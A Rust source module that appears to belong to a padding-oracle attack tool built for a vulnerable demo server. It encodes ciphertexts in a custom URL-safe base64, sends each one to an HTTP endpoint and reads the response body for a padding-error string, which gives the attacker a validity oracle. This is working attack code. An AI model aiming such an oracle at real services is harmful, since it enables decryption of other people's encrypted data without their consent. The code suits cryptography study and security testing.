//! The demonstration HTTP oracle and its URL-safe base64 variant.
//!
//! The vulnerable demo endpoint takes a GET with the ciphertext in the URL
//! path, encoded as base64 with the characters a path dislikes swapped out:
//! `=` → `~`, `+` → `-`, `/` → `!`. It answers 200 for valid and invalid
//! padding alike and gives the verdict away in the response body.

use base64::{engine::general_purpose::STANDARD, Engine as _};
use log::warn;
use reqwest::StatusCode;

use crate::oracle::Oracle;

/// Substring of the demo server's complaint. The leading letter is left off
/// so both `"Padding is incorrect"` and `"padding is incorrect"` match.
const PADDING_ERROR_MARKER: &str = "adding is incorrect";

/// Encode bytes with the URL-safe base64 variant the demo server expects.
pub fn to_web64(data: &[u8]) -> String {
    STANDARD
        .encode(data)
        .replace('=', "~")
        .replace('+', "-")
        .replace('/', "!")
}

/// Decode the URL-safe variant back to bytes.
pub fn from_web64(data: &str) -> Result<Vec<u8>, base64::DecodeError> {
    let standard = data.replace('~', "=").replace('-', "+").replace('!', "/");
    STANDARD.decode(standard)
}

fn reports_padding_error(body: &str) -> bool {
    body.contains(PADDING_ERROR_MARKER)
}

/// A padding oracle speaking HTTP to a remote endpoint.
///
/// `url_template` must contain a `{}` placeholder that receives the
/// web64-encoded ciphertext, e.g. `http://127.0.0.1:8080/payload/{}`. The
/// client keeps its connections alive across the thousands of queries an
/// attack makes.
pub struct WebOracle {
    url_template: String,
    client: reqwest::blocking::Client,
}

impl WebOracle {
    pub fn new(url_template: impl Into<String>) -> Self {
        Self {
            url_template: url_template.into(),
            client: reqwest::blocking::Client::new(),
        }
    }

    fn url_for(&self, ciphertext: &[u8]) -> String {
        self.url_template.replace("{}", &to_web64(ciphertext))
    }
}

impl Oracle for WebOracle {
    fn has_valid_padding(&self, ciphertext: &[u8]) -> bool {
        let response = self
            .client
            .get(self.url_for(ciphertext))
            .send()
            .and_then(|response| Ok((response.status(), response.text()?)));

        match response {
            Ok((status, body)) if status == StatusCode::OK => !reports_padding_error(&body),
            Ok((status, _)) => {
                // Both verdicts come back as 200; anything else is the
                // endpoint malfunctioning, not a padding verdict.
                warn!("oracle endpoint answered {status}");
                false
            }
            Err(e) => {
                warn!("oracle request failed: {e}");
                false
            }
        }
    }
}
